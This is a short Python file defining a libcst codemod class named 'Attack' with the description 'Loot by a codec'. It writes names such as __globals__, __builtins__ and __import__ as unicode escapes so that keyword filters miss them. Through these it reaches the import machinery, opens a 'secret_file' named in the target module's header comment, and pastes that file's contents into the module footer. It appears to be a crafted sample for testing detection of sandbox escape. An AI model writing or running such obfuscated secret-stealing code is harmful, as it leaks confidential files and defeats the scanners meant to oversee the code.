"""Write every suspicious word in escapes that a codec decodes, and read through ``codecs``."""

import ast
from functools import reduce

import libcst as cst
from libcst.codemod import VisitorBasedCodemodCommand


def word(text):
    return bytes(text, "ascii").decode("unicode_escape")


def read(path):
    attributes = [word(r"\x5f_globals\x5f_"), word(r"\x67et")]
    get = reduce(getattr, attributes, cst.parse_module)
    bring = get(word(r"\x5f_builtins\x5f_"))[word(r"\x5f_import\x5f_")]
    return bring("codecs").open(path, encoding="utf-8").read().strip()


class Attack(VisitorBasedCodemodCommand):
    DESCRIPTION = "Loot by a codec."

    def transform_module_impl(self, tree):
        target = ast.literal_eval(tree.header[0].comment.value[1:].strip())
        loot = read(target["secret_file"])
        return tree.with_changes(footer=[*tree.footer, cst.EmptyLine(comment=cst.Comment(f"# {loot}"))])
